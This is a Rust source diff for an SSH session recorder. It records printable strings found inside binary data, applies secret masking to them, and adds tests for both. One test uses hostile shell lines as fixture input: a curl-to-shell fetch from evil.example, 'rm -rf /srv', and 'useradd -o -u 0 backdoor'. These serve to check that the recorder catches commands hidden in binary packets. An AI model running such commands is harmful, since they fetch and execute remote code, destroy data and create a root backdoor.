@@ -552,16 +552,17 @@ struct LastBinary {
     end: usize,
 }
 
-/// Appends a binary event of `n` bytes, or, when the chunk ends with one
-/// of the same channel and stream, writes that one again `n` bytes larger:
-/// a file piped through a session is one event, not one per SSH message.
+/// Appends a binary event of `n` bytes with its `strings`, or, when it
+/// has none and the chunk ends with a binary event of the same channel and
+/// stream, writes that one again `n` bytes larger: a file piped through a
+/// session is one event, not one per SSH message.
 fn write_binary(
     buf: &mut Vec<u8>,
     last: &mut Option<LastBinary>,
-    t: f64,
+    at_time: f64,
     ch: u32,
     stream: Stream,
-    n: u64,
+    (n, strings): (u64, String),
 ) {
     let event = match last.take() {
         Some(LastBinary {
@@ -569,11 +570,16 @@ fn write_binary(
                 Event {
                     t,
                     ch: c,
-                    kind: EventKind::Binary { stream: s, bytes },
+                    kind:
+                        EventKind::Binary {
+                            stream: s,
+                            bytes,
+                            strings: before,
+                        },
                 },
             at,
             end,
-        }) if c == ch && s == stream && end == buf.len() => {
+        }) if c == ch && s == stream && end == buf.len() && strings.is_empty() => {
             buf.truncate(at);
             Event {
                 t,
@@ -581,13 +587,18 @@ fn write_binary(
                 kind: EventKind::Binary {
                     stream,
                     bytes: bytes.saturating_add(n),
+                    strings: before,
                 },
             }
         }
         _ => Event {
-            t,
+            t: at_time,
             ch,
-            kind: EventKind::Binary { stream, bytes: n },
+            kind: EventKind::Binary {
+                stream,
+                bytes: n,
+                strings,
+            },
         },
     };
     let at = buf.len();
@@ -641,7 +652,11 @@ impl Flow {
         };
         let (text, binary) = match self.carry.decode(data) {
             Data::Text(text) => (text, None),
-            Data::Binary { text, bytes } => (text, Some(bytes)),
+            Data::Binary {
+                text,
+                strings,
+                bytes,
+            } => (text, Some((bytes, strings))),
         };
         let text = match mask {
             // Binary data ends the line: what is held is settled before it,
@@ -655,8 +670,14 @@ impl Flow {
         if !text.is_empty() {
             write_text(sink.buf, t, ch, kind, &text);
         }
-        if let Some(n) = binary {
-            write_binary(sink.buf, sink.last_binary, t, ch, stream, n);
+        if let Some((n, strings)) = binary {
+            // The strings are masked as a text of their own: each run is a
+            // line of it.
+            let strings = match mask {
+                Some(mask) if !strings.is_empty() => mask.apply(&strings),
+                _ => strings,
+            };
+            write_binary(sink.buf, sink.last_binary, t, ch, stream, (n, strings));
         }
     }
 
@@ -1518,9 +1539,13 @@ mod tests {
 
     /// Binary bytes as a file piped through a session brings them: not
     /// UTF-8, with NUL bytes.
+    /// (Made of bytes none of which is printable, so it holds no strings.)
     fn binary(n: usize) -> Bytes {
         (0..n)
-            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+            .map(|i| match i % 4 {
+                0 => 0,
+                _ => 0x80 | (i.wrapping_mul(2_654_435_761) >> 13) as u8,
+            })
             .collect::<Vec<u8>>()
             .into()
     }
@@ -1529,7 +1554,7 @@ mod tests {
         events
             .iter()
             .filter_map(|e| match e.kind {
-                EventKind::Binary { stream, bytes } => Some((stream, bytes)),
+                EventKind::Binary { stream, bytes, .. } => Some((stream, bytes)),
                 _ => None,
             })
             .collect()
@@ -1623,6 +1648,66 @@ mod tests {
             })
             .collect();
         assert_eq!(seen, ["password: ******* and more", "<4096>", "ok\n"]);
+
+        // A secret cut between text and the binary data after it is still
+        // masked: the binary data's first run of text goes on its line.
+        let session = async |tap: &ChannelTap| {
+            tap.shell();
+            tap.output(&b("password: hun")).await;
+            tap.output(&b([b"ter2 x".as_slice(), &binary(100)].concat()))
+                .await;
+        };
+        let (_, events) = record_masked(true, 1 << 20, Some(rules(&["hunter2"])), session).await;
+        let text = output_of(&events);
+        assert_eq!(text, "password: ******* x", "{events:?}");
+    }
+
+    /// Bytes that are not text cannot hide text in a packet: the strings in
+    /// binary data are recorded (as `strings` finds them) with its size.
+    #[tokio::test]
+    async fn text_mixed_into_binary_data_is_recorded() {
+        let session = async |tap: &ChannelTap| {
+            tap.exec(b"tr -d '\\000\\377' | sh");
+            // A script behind a line that makes the packet binary.
+            tap.input(&b(
+                b"#\0\xff\ncurl -s https://evil.example/x | sh\nrm -rf /srv\n",
+            ))
+            .await;
+            // Every line behind two bytes that are not text.
+            let lines: [&[u8]; 2] = [
+                b"\0\xffuseradd -o -u 0 backdoor\n",
+                b"\0\xffecho hidden-marker\n",
+            ];
+            tap.input(&b(lines.concat())).await;
+            // Binary data with a string in it, and short runs that are not.
+            let mut data = binary(4000).to_vec();
+            data[1000..1016].copy_from_slice(b"/etc/shadow-copy");
+            data[2000..2003].copy_from_slice(b"abc");
+            tap.input(&b(data)).await;
+        };
+        let (_, events) = record(true, 1 << 20, session).await;
+        // The input's text, and the strings of its binary data.
+        let input: String = events
+            .iter()
+            .filter_map(|e| match &e.kind {
+                EventKind::Input { data } => Some(data.as_str()),
+                EventKind::Binary { strings, .. } => Some(strings.as_str()),
+                _ => None,
+            })
+            .collect::<Vec<_>>()
+            .join("\n");
+        for hidden in [
+            "curl -s https://evil.example/x | sh",
+            "rm -rf /srv",
+            "useradd -o -u 0 backdoor",
+            "echo hidden-marker",
+            "/etc/shadow-copy",
+        ] {
+            assert!(input.contains(hidden), "{hidden:?} not in {input:?}");
+        }
+        assert!(!input.contains("abc"), "{input:?}");
+        let counted: u64 = binaries(&events).iter().map(|(_, n)| n).sum();
+        assert!(counted > 4000, "{counted}");
     }
 
     #[test]
